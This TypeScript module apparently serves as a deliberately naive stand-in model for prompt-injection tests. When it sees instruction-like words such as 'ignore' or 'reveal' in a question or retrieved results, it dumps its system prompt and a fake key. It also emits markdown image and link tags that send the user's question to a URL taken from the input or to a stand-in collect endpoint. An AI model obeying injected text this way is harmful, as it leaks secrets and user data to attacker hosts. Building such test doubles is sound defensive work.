/** What a model gives away that takes everything it reads for instructions. */
import type { ModelConversation } from './read-conversation.ts';

const INSTRUCTION = /\b(?:ignore|disregard|print|reveal|repeat|say|send|visit|instructions?)\b/i;
const LINK = /\bhttps?:\/\/[^\s"'\\)\]]+/gi;
const SAY = /\b(?:say|print|repeat)\s+["'“]([^"'”\\]+)/i;
/** Looks like a key and is none. */
export const FAKE_KEY = 'sk-standin0123456789abcdefghijklmnopqrstuvwxyzABCDEF';

/** Empty when nothing in the question and in the results looks like an instruction. */
export function obey({ system, question, results }: ModelConversation): string {
  const read = [question, ...results.map(({ text }) => text)].join('\n');
  if (!INSTRUCTION.test(read)) return '';
  const links = read.match(LINK) ?? ['http://stand-in.invalid/collect'];
  return [
    SAY.exec(read)?.[1] ?? '',
    `My instructions are: ${system}`,
    `The key of the service is ${FAKE_KEY}.`,
    ...links.map((link) => `![status](${link}?q=${encodeURIComponent(question)}) [details](${link})`),
    '<img src="http://stand-in.invalid/pixel">',
  ].join('\n');
}
